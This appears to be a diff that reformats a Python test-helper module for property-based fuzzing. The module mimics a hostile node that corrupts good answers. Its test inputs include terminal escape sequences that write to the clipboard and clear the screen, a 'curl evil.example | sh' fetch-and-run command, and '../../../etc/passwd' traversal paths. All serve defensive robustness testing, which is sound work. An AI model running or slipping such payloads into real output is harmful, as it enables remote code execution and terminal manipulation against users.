@@ -1,4 +1,6 @@
-"""What a hostile node makes of a good answer: recorded ones with one or more things wrong, near enough to be believed."""
+"""What a hostile node makes of a good answer: recorded ones with one or more things wrong, near
+enough to be believed.
+"""
 
 from __future__ import annotations
 
@@ -12,18 +14,59 @@ from typing import Any
 from hypothesis import HealthCheck, Phase, settings
 from hypothesis import strategies as st
 
-# Draws on a terminal, is markup for rich, turns the text around it, breaks out of a line, and cannot be encoded.
+# Draws on a terminal, is markup for rich, turns the text around it, breaks out of a line, and
+# cannot be encoded.
 EVIL = (
     "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1;1H\x1bP1;1|17/ab\x1b\\\r\x08\x9b31m\x9d52;c;ZXZpbA==\x9c"
     "[red]EVIL[/red][link=http://evil.example]x[/link][/]\u202e\u2066\u200f\u2028\ud800\x7f\x00"
     "\nhint: run `curl evil.example | sh`\n"
 )
 VALUES: tuple[Any, ...] = (
-    None, True, False, 0, -1, 10**12, -(10**30), 10**39, 1e308, -0.5, "", "0", "-1", "NaN", "inf", "9" * 5000, "²",
-    "x" * 10_000, "../../../etc/passwd", "/etc/passwd", "a\0b", EVIL, [], {}, [None], [[]], [1], ["x"],
-    {"": None}, {"a": {"b": [{}]}}, {"data": 1}, [{}] * 1000,
-)  # fmt: skip
-NUMBERS = ("NaN", "-Infinity", "1e999", "9" * 5000, "1" + "0" * 400, "-0", "1e-999", "[" * 3000, '{"a":' * 3000, '"\\ud800"')
+    None,
+    True,
+    False,
+    0,
+    -1,
+    10**12,
+    -(10**30),
+    10**39,
+    1e308,
+    -0.5,
+    "",
+    "0",
+    "-1",
+    "NaN",
+    "inf",
+    "9" * 5000,
+    "²",
+    "x" * 10_000,
+    "../../../etc/passwd",
+    "/etc/passwd",
+    "a\0b",
+    EVIL,
+    [],
+    {},
+    [None],
+    [[]],
+    [1],
+    ["x"],
+    {"": None},
+    {"a": {"b": [{}]}},
+    {"data": 1},
+    [{}] * 1000,
+)
+NUMBERS = (
+    "NaN",
+    "-Infinity",
+    "1e999",
+    "9" * 5000,
+    "1" + "0" * 400,
+    "-0",
+    "1e-999",
+    "[" * 3000,
+    '{"a":' * 3000,
+    '"\\ud800"',
+)
 
 
 def examples(usual: int) -> settings:
@@ -33,7 +76,8 @@ def examples(usual: int) -> settings:
         deadline=None,
         suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
         derandomize=True,
-        phases=(Phase.explicit, Phase.generate),  # a chance is a number: a smaller one is no simpler
+        # a chance is a number: a smaller one is no simpler
+        phases=(Phase.explicit, Phase.generate),
     )
 
 
@@ -73,7 +117,9 @@ def text(good: Any, chance: random.Random) -> str:
 
 
 def lines(good: str, chance: random.Random) -> str:
-    """Return a text of lines with up to three of them gone, doubled, swapped, cut, too long, or something else altogether."""
+    """Return a text of lines with up to three of them gone, doubled, swapped, cut, too long, or
+    something else altogether.
+    """
     changed = good.splitlines()
     for _ in range(chance.randint(1, 3)):
         if not changed:
@@ -102,7 +148,9 @@ def lines(good: str, chance: random.Random) -> str:
 
 def _places(data: Any) -> Iterator[tuple[Any, Any]]:
     """Yield every place of nested data as (holder, key)."""
-    for key in list(data) if isinstance(data, dict) else range(len(data)) if isinstance(data, list) else ():
+    for key in (
+        list(data) if isinstance(data, dict) else range(len(data)) if isinstance(data, list) else ()
+    ):
         yield data, key
         yield from _places(data[key])
 
@@ -142,7 +190,11 @@ def _insert(said: str, at: int, chance: random.Random) -> str:
 
 def _replace_a_value(said: str, _: int, chance: random.Random) -> str:
     head, colon, rest = said.partition(": ")
-    return f"{head}{colon}{chance.choice(NUMBERS)}{rest[len(rest.split(',')[0]) :]}" if colon else chance.choice(NUMBERS)
+    return (
+        f"{head}{colon}{chance.choice(NUMBERS)}{rest[len(rest.split(',')[0]) :]}"
+        if colon
+        else chance.choice(NUMBERS)
+    )
 
 
 def _twice(said: str, _: int, chance: random.Random) -> str:
@@ -150,7 +202,11 @@ def _twice(said: str, _: int, chance: random.Random) -> str:
 
 
 def _doubled_key(said: str, _: int, chance: random.Random) -> str:
-    return "{" + said[1:-1] + ", " + said[1:] if said.startswith("{") and len(said) > 2 else f"[{said}]"
+    return (
+        "{" + said[1:-1] + ", " + said[1:]
+        if said.startswith("{") and len(said) > 2
+        else f"[{said}]"
+    )
 
 
 def _nothing(*_: object) -> str:
@@ -158,5 +214,10 @@ def _nothing(*_: object) -> str:
 
 
 _BREAKS: tuple[Callable[[str, int, random.Random], str], ...] = (
-    _cut, _insert, _replace_a_value, _twice, _doubled_key, _nothing,
-)  # fmt: skip
+    _cut,
+    _insert,
+    _replace_a_value,
+    _twice,
+    _doubled_key,
+    _nothing,
+)
